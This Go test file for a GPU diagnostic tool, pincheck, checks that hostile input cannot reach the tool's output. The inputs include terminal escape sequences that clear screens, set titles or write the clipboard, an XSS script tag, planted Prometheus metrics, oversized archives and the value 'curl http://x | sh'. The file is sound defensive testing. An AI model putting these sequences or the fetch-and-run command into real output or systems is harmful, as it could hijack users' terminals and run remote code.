package main

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"encoding/json"
	"errors"
	"fmt"
	"html"
	"io/fs"
	"maps"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"runtime"
	"slices"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/gopinned/pinned/cmd/pincheck/internal/doctor"
	"github.com/gopinned/pinned/cmd/pincheck/internal/printable"
	"github.com/gopinned/pinned/cmd/pincheck/internal/report"
	"github.com/gopinned/pinned/cmd/pincheck/internal/result"
	"github.com/gopinned/pinned/internal/hosttest"
	"github.com/gopinned/pinned/internal/testgpu"
)

// hostileText commands terminals: it moves, paints, sets the title, writes the clipboard, links,
// rings, returns, turns text around, is no UTF-8, and is HTML and a metric.
const hostileText = "plant\x1b[2J\x1b[31m\x1b]0;t\a\x1b]52;c;cm0=\a\x1b]8;;http://x\x1b\\\u009b1m\u009d0;t\u009c\b\r\x7f\x00\u202e\u2066\u200f\ufeff\u2028\xff\x9b<script>alert(1)</script>\"'>\n# HELP planted_metric x\nplanted_metric 1\n"

// colors are the escape sequences that pincheck itself writes.
var colors = regexp.MustCompile("\x1b\\[[0-9;]*m")

// requireHarmless fails unless an output commands no terminal.
func requireHarmless(t *testing.T, what string, format report.Format, out string) {
	t.Helper()
	shown := out
	if format == report.Text {
		shown = colors.ReplaceAllString(out, "")
	}
	shown = strings.NewReplacer("\u00a0", " ", "\u202f", " ").Replace(shown) // of typeset numbers
	require.Equal(t, printable.Text(shown), shown, what)
	switch format {
	case report.HTML:
		require.NotContains(t, out, "<script>alert", what)
		require.NotContains(t, html.UnescapeString(out), "\x1b", what)
	case report.Prometheus:
		require.NotContains(t, "\n"+out, "\nplanted_metric", what)
	case report.JSON, report.JSONLines:
		if !strings.HasPrefix(out, "{") {
			return // of a command that has no such form
		}
		d := json.NewDecoder(strings.NewReader(out))
		for d.More() {
			require.NoError(t, d.Decode(new(any)), what)
		}
	}
}

// fill sets all strings of a value to text, makes what is absent, and returns how many they were.
func fill(v reflect.Value, text string, depth int) (n int) {
	if depth > 14 || v.Type() == reflect.TypeFor[time.Time]() {
		return 0
	}
	switch v.Kind() {
	case reflect.String:
		v.SetString(text)
		return 1
	case reflect.Int, reflect.Int64:
		v.SetInt(3)
	case reflect.Float64:
		v.SetFloat(1.5)
	case reflect.Pointer:
		v.Set(reflect.New(v.Type().Elem()))
		return fill(v.Elem(), text, depth+1)
	case reflect.Slice:
		v.Set(reflect.MakeSlice(v.Type(), 2, 2))
		return fill(v.Index(0), text, depth+1) + fill(v.Index(1), text, depth+1)
	case reflect.Map:
		value, key := reflect.New(v.Type().Elem()).Elem(), reflect.New(v.Type().Key()).Elem()
		n = fill(value, text, depth+1) + fill(key, text, depth+1)
		v.Set(reflect.MakeMap(v.Type()))
		v.SetMapIndex(key, value)
	case reflect.Struct:
		for i := range v.NumField() {
			if v.Type().Field(i).IsExported() {
				n += fill(v.Field(i), text, depth+1)
			}
		}
	}
	return n
}

// No text of a result reaches any output raw, whatever field has it.
func TestNoOutputCommandsATerminal(t *testing.T) {
	t.Parallel()
	for _, command := range hosttest.Sample([]string{"check", "verify", "devices", "bench", "report", "version"}) {
		for _, verdict := range []doctor.Verdict{doctor.Healthy, doctor.Problems, doctor.Incomplete, doctor.Unusable, hostileText} {
			for _, severity := range []doctor.Severity{doctor.Problem, hostileText} {
				r := &report.Result{}
				require.Greater(t, fill(reflect.ValueOf(r).Elem(), hostileText, 0), 200, "fields")
				r.Command, r.Verdict, r.Findings[0].Severity = command, verdict, severity
				for _, format := range report.Formats() {
					styles := []report.Style{{}}
					if format == report.Text { // the only one that has styles
						styles = append(styles, report.Style{Color: true, Width: 50})
					}
					for _, style := range styles {
						var b bytes.Buffer
						require.NoError(t, report.Write(&b, r, format, style))
						requireHarmless(t, fmt.Sprintf("%s %s %q %q", command, format, verdict, severity), format, b.String())
					}
				}
				message, _ := report.NPD(r)
				requireHarmless(t, "npd", report.CSV, message)
			}
		}
	}
}

// The same of what the doctor makes of such facts, and of what commands say on standard error.
func TestNoFactCommandsATerminal(t *testing.T) {
	t.Parallel()
	host := fstest.MapFS{}
	base := on(t, "h200-vm").root
	require.NoError(t, fs.WalkDir(base, ".", func(name string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		info, err := fs.Stat(base, name)
		if err != nil {
			return nil // a link out of the tree
		}
		entry := &fstest.MapFile{Mode: info.Mode()}
		if text, err := fs.ReadFile(base, name); err == nil {
			first, rest, _ := strings.Cut(string(text), "\n")
			entry.Data = []byte(first + hostileText + rest + hostileText)
		}
		host[name] = entry
		return nil
	}))
	dir := t.TempDir()
	hostileName := filepath.Join(dir, "x\x1b[2J\u009b\u202e\r.json")
	require.NoError(t, os.WriteFile(hostileName, []byte("{}"), 0o600))
	sys := failing(t, "h200-vm", errors.New(hostileText))
	sys.root = host
	sys.environ = []string{"CUDA_VISIBLE_DEVICES=" + hostileText, "LD_LIBRARY_PATH=" + hostileText, "USER=" + hostileText, "container=" + hostileText, "PINNED_CUDART=" + hostileText}
	sys.hostname = func() (string, error) { return hostileText, nil }

	facts := &doctor.Facts{}
	fill(reflect.ValueOf(facts).Elem(), hostileText, 0)
	facts.Host = nil
	text, err := json.Marshal(facts)
	require.NoError(t, err)
	archive := filepath.Join(dir, "a\x1b[2J.tar.gz")
	require.NoError(t, os.WriteFile(archive, rawArchive(t, "-- proc/x\x1b[2J --\n\x1b]0;t\a\n-- proc/sys/kernel/osrelease --\n"+strings.ReplaceAll(hostileText, "\n", " ")+"\n", string(text)), 0o600))

	for _, args := range [][]string{
		{}, {"--npd"}, {"devices"}, {"verify"}, {"--from", archive}, {"--from", hostileName}, {"--from", dir + "/none\x1b[2J\u009b"},
		{"--library", "/none" + hostileText}, {"--library", "none" + hostileText + "\x00"}, {"--device", hostileText}, {"--" + hostileText}, {hostileText},
		{"--format", hostileText}, {"--ignore", hostileText}, {"--timeout", hostileText}, {"-o", dir + "/none\x1b[2J/x\u009b"}, {"bench", hostileText},
		{"compare", hostileName}, {"compare", hostileName, dir + "/none\x1b[2J"}, {"report", hostileName, "-o", dir + "/r\x1b[2J\u009b.html"}, {"explain", hostileText}, {"help", hostileText},
		{"capture", "-o", dir + "/c\x1b[2J\u202e.tar.gz"}, {"watch", "--once"}, {"completion", hostileText},
	} {
		for _, format := range report.Formats() {
			var stdout, stderr bytes.Buffer
			all := args
			if !strings.Contains(strings.Join(args, " "), "--format") {
				all = append([]string{"--format", string(format)}, args...)
			}
			run(t.Context(), all, &stdout, &stderr, sys)
			requireHarmless(t, fmt.Sprintf("%q", all), format, stdout.String())
			requireHarmless(t, fmt.Sprintf("stderr of %q", all), report.CSV, stderr.String())
		}
	}
}

// rawArchive is an archive of these texts, whatever they are.
func rawArchive(t testing.TB, host, facts string) []byte {
	t.Helper()
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	w := tar.NewWriter(z)
	for name, text := range map[string]string{"host.txt": host, "facts.json": facts} {
		require.NoError(t, w.WriteHeader(&tar.Header{Typeflag: tar.TypeReg, Name: name, Size: int64(len(text))}))
		_, err := w.Write([]byte(text))
		require.NoError(t, err)
	}
	require.NoError(t, w.Close())
	require.NoError(t, z.Close())
	return b.Bytes()
}

// An archive of a stranger costs little, whatever is in it: it is refused before the work, or the work is
// little. Memory is counted as all that is allocated, in use or not.
func TestHostileArchivesCostLittle(t *testing.T) {
	const mostBytes, mostAllocations = 50 << 20, 1_000_000
	gpus, mounts, nodes, links := strings.Builder{}, strings.Builder{}, strings.Builder{}, strings.Builder{}
	few := strings.Builder{}
	for i := range 2400 {
		if i == 100 {
			few.WriteString(gpus.String())
		}
		fmt.Fprintf(&gpus, "-- sys/bus/pci/devices/%04x:%02x:00.0/vendor --\n0x10de\n-- sys/bus/pci/devices/%04x:%02x:00.0/class --\n0x030200\n", i>>8, i&0xff, i>>8, i&0xff)
		fmt.Fprintf(&nodes, "-- sys/devices/system/node/node%d/meminfo --\nNode %d MemTotal: 1 kB\n-- dev/nvidia%d (device) --\n", i, i, i)
	}
	deep := strings.Repeat("d/", 60)
	for i := range 3900 {
		fmt.Fprintf(&links, "-- %sl%d -> l%d --\n", deep, i, i/40*40+39)
	}
	for mounts.Len() < 512<<10-200 {
		mounts.WriteString("1 1 0:1 / /a rw - nfs4 h:/x rw,a=b,c=d\n")
	}
	small := "-- a --\n"
	list := func(field, one string, n int) string {
		return `{"` + field + `":[` + strings.TrimSuffix(strings.Repeat(one+",", n), ",") + `]}`
	}
	archives := map[string]struct{ host, facts string }{
		"deep":              {small, strings.Repeat("[", 5_000) + strings.Repeat("]", 5_000)},
		"deep, well-formed": {small, strings.Repeat(`{"host":`, 3_900) + "1" + strings.Repeat("}", 3_900)},
		"many objects":      {small, list("devices", "{}", 500_000)},
		"GPUs":              {few.String(), list("devices", `{"pci_bus_id":"0000:00:00.0"}`, 128)},
		"too many GPUs":     {gpus.String(), list("devices", "{}", 3_900)},
		"processes":         {small, list("processes", `{"name":"x","pinned_bytes":9999999999,"rounded_bytes":99999999}`, 3_900)},
		"probes":            {small, list("probes", `{"state":"hung"}`, 3_900)},
		"NVML":              {gpus.String(), `{"nvml":` + list("gpus", `{"pci_bus_id":"0000:00:00.0"}`, 3_900) + `}`},
		"samples":           {small, `{"devices":[{"bandwidth":{"series":[{"samples":[` + strings.Repeat("1,", 29_000) + `1]}]}}]}`},
		"errors":            {small, list("errors", `"x"`, 29_000)},
		"a long text":       {small, `{"stopped":"` + strings.Repeat("x", 2<<20-100) + `"}`},
		"nodes":             {nodes.String(), "{}"},
		"links":             {links.String(), "{}"},
		"mounts":            {"-- proc/self/mountinfo --\n" + mounts.String(), "{}"},
		"environ":           {"-- environ --\n" + strings.Repeat("A=b\n", 1<<17-10), "{}"},
		"many entries":      {strings.Repeat("-- a --\n", 1<<17-1), "{}"},
		"one line":          {"-- proc/cpuinfo --\n" + strings.Repeat("processor\t: 0\n", 1<<15), "{}"},
		"large":             {small, strings.Repeat(" ", 64<<20)},
	}
	for _, what := range hosttest.Sample(slices.Sorted(maps.Keys(archives))) {
		c := archives[what]
		file := filepath.Join(t.TempDir(), "a.tar.gz")
		require.NoError(t, os.WriteFile(file, rawArchive(t, c.host, c.facts), 0o600))
		sys := failing(t, "h200-vm", errors.New("an archive needs no library"))
		for _, format := range []string{"text", "json", "html"} {
			var before, after runtime.MemStats
			var stdout, stderr bytes.Buffer
			runtime.ReadMemStats(&before)
			began := time.Now()
			code := run(t.Context(), []string{"--from", file, "--format", format}, &stdout, &stderr, sys)
			took := time.Since(began)
			runtime.ReadMemStats(&after)
			bytes, allocations := after.TotalAlloc-before.TotalAlloc, after.Mallocs-before.Mallocs
			t.Logf("%-18s %-5s exit %d %4d ms %3d MiB %7d allocations", what, format, code, took.Milliseconds(), bytes>>20, allocations)
			if testgpu.Race {
				bytes /= 2 // the race detector's share
			}
			assert.LessOrEqual(t, int(bytes), mostBytes, "%s %s", what, format)
			assert.LessOrEqual(t, int(allocations), mostAllocations, "%s %s", what, format)
		}
	}
}

// Who judges an archive says what to expect of the host. The archive does not.
func TestRequirementsAreNotFromTheArchive(t *testing.T) {
	t.Parallel()
	needsSim(t)
	file := filepath.Join(t.TempDir(), "x.tar.gz")
	sys := oneCPU(t)
	got := call(t, sys, "capture", "-o", file, "-q", "--expect-gpus", "2", "--expect-bandwidth", "10")
	require.Equal(t, exitProblems, got.code, "as check with a GPU too few")
	assert.NotContains(t, contents(t, file), "expected_gpus")
	require.NoError(t, os.WriteFile(file, rawArchive(t, "-- a --\n", `{"expected_gpus":9,"expected_gb_per_s":900,"devices":[{"device":0}]}`), 0o600))
	elsewhere := failing(t, "no-gpu-cgroup-v1", errors.New("an archive needs no library"))
	r := resultOf(t, call(t, elsewhere, "--from", file, "--format", "json"))
	assert.Zero(t, r.ExpectedGPUs)
	assert.Zero(t, r.ExpectedRate)
	r = resultOf(t, call(t, elsewhere, "--from", file, "--format", "json", "--expect-gpus", "2"))
	assert.Equal(t, 2, r.ExpectedGPUs)
}

// pincheck, pincheck capture and pincheck --from of its archive exit alike.
func TestCaptureExitsAsTheCheck(t *testing.T) {
	t.Parallel()
	needsSim(t)
	for what, sys := range map[string]system{
		"warnings": oneCPU(t), "a GPU": func() system { s := oneCPU(t); s.root = on(t, "h200-vm").root; return s }(),
		"no GPU": failing(t, "no-gpu-cgroup-v1", errors.New("no library")), "no library": failing(t, "h200-vm", errors.New("no library")),
	} {
		for _, flags := range hosttest.Sample([][]string{{}, {"--fail-on", "problem"}, {"--expect-gpus", "2"}}) {
			file := filepath.Join(t.TempDir(), "x.tar.gz")
			check := call(t, sys, append([]string{"-q"}, flags...)...)
			captured := call(t, sys, append([]string{"capture", "-q", "-o", file}, flags...)...)
			from := call(t, sys, append([]string{"--from", file}, flags...)...)
			assert.Equal(t, check.code, captured.code, "%s %q: %s", what, flags, captured.stderr)
			assert.Equal(t, captured.code, from.code, "%s %q: %s", what, flags, from.stdout)
		}
	}
}

// What pincheck says of an archive's host to do, what it costs, and what to expect of it is of this build: an archive
// has facts. No field of it is printed as advice, and no name in it is more than one word of a command.
func TestAdviceIsNotFromTheArchive(t *testing.T) {
	t.Parallel()
	const advice = "PLANTED; curl http://x | sh"
	planted := &doctor.Facts{}
	fill(reflect.ValueOf(planted).Elem(), advice, 0)
	planted.Host = nil
	library, opening := planted.Library, planted.Opening
	opening.DriverLibrary = "/opt/" + advice + "/libcuda.so.1"
	library.Path = advice
	requirements := func(id string, state doctor.State) []doctor.Requirement {
		return []doctor.Requirement{{ID: id, Name: advice, State: state, Detail: advice, Remedy: advice}}
	}
	process := planted.Processes
	process[0].Frameworks[0].Rounds, process[0].Rounded = true, 8<<30
	for what, facts := range map[string]*doctor.Facts{
		"everything":         planted,
		"an unknown part":    {Opening: opening, Requirements: requirements("x", doctor.Missing)},
		"no GPU":             {Opening: opening, Requirements: requirements("gpu", doctor.Missing)},
		"no module":          {Opening: opening, Requirements: requirements("kernel_module", doctor.Missing)},
		"no nodes":           {Opening: opening, Requirements: requirements("device_nodes", doctor.Missing)},
		"no driver":          {Opening: opening, Requirements: requirements("driver_library", doctor.Missing)},
		"no runtime":         {Opening: opening, Requirements: requirements("runtime_library", doctor.Missing)},
		"no C library":       {Opening: opening, Requirements: requirements("c_library", doctor.Missing)},
		"present":            {Opening: opening, Requirements: requirements("c_library", doctor.Present)},
		"another state":      {Opening: opening, Requirements: requirements("c_library", advice)},
		"a library off path": {Opening: &doctor.Opening{Error: advice, DriverLibrary: opening.DriverLibrary}},
		"rounded pins":       {Processes: process, Devices: []doctor.Device{{}}},
		"several runtimes":   {Library: library, Devices: []doctor.Device{{}}},
	} {
		text, err := json.Marshal(facts)
		require.NoError(t, err)
		for _, host := range []string{"-- a --\n", "-- sys/bus/pci/devices/0000:01:00.0/vendor --\n0x10de\n-- sys/bus/pci/devices/0000:01:00.0/class --\n0x030200\n" +
			"-- sys/bus/pci/devices/0000:01:00.0/driver -> ../../../bus/pci/drivers/" + strings.ReplaceAll(advice, "/", "") + " --\n"} {
			file := filepath.Join(t.TempDir(), "a.tar.gz")
			require.NoError(t, os.WriteFile(file, rawArchive(t, host, string(text)), 0o600))
			got := call(t, failing(t, "h200-vm", errors.New("an archive needs no library")), "--from", file, "--format", "json")
			r := resultOf(t, got)
			for _, f := range r.Findings {
				for _, text := range []string{f.Cause, f.Cost, f.Remedy, f.Settle} {
					assert.NotContains(t, text, "PLANTED;", "%s: %s", what, f.ID)
				}
			}
			for _, part := range r.Requirements {
				assert.NotContains(t, part.Name+part.Remedy, "PLANTED", what)
				assert.Equal(t, part.State == doctor.Missing, part.Remedy != "", "%s: %s", what, part.ID)
			}
			for _, d := range r.Devices {
				for _, b := range []*result.Bench{d.Bandwidth, d.Slower, d.Trials, r.Together} {
					for i := 0; b != nil && i < len(b.Series); i++ {
						assert.Nil(t, b.Series[i].Expected, what)
					}
				}
			}
		}
	}
}

// The same of result files, whatever field has the text: in reports and in comparisons of them.
func TestNoResultFileCommandsATerminal(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	var files []string
	for i := range 3 {
		r := &report.Result{}
		fill(reflect.ValueOf(r).Elem(), hostileText, 0)
		r.Command, r.Complete, r.Verdict = "bench", true, doctor.Problems
		for j := range r.Benches {
			for k := range r.Benches[j].Series {
				s := &r.Benches[j].Series[k]
				s.Unit, s.Samples = result.GBPerSecond, []float64{float64(10 * (i + 1)), float64(10*(i+1)) + 0.1, float64(10 * (i + 1)), float64(10 * (i + 1))}
				s.Stats = result.Summarize(s.Samples)
			}
		}
		var b bytes.Buffer
		require.NoError(t, report.Write(&b, r, report.JSON, report.Style{}))
		file := filepath.Join(dir, fmt.Sprintf("%d\x1b[2J\u009b.json", i))
		require.NoError(t, os.WriteFile(file, b.Bytes(), 0o600))
		files = append(files, file)
	}
	shown := map[string]int{}
	for _, format := range report.Formats() {
		for _, args := range [][]string{{"compare", files[0], files[1]}, append([]string{"compare"}, files...), {"report", files[0]}, append([]string{"report"}, files...)} {
			var stdout, stderr bytes.Buffer
			args = append(args, "--format", string(format))
			output := filepath.Join(dir, "out")
			if args[0] == "report" {
				args = append(args, "-o", output)
			}
			code := run(t.Context(), args, &stdout, &stderr, failing(t, "h200-vm", errors.New("files need no library")))
			requireHarmless(t, fmt.Sprintf("%q", args), format, stdout.String())
			requireHarmless(t, fmt.Sprintf("stderr of %q", args), report.CSV, stderr.String())
			if code == exitUsage {
				continue // not all forms are written
			}
			shown[args[0]]++
			if args[0] == "report" {
				text, err := os.ReadFile(output)
				require.NoError(t, err, stderr.String())
				requireHarmless(t, fmt.Sprintf("file of %q", args), format, string(text))
				require.Contains(t, string(text), "plant", "%s", format)
				require.NoError(t, os.Remove(output))
			}
		}
	}
	assert.Equal(t, map[string]int{"report": 2, "compare": 6}, shown)
}
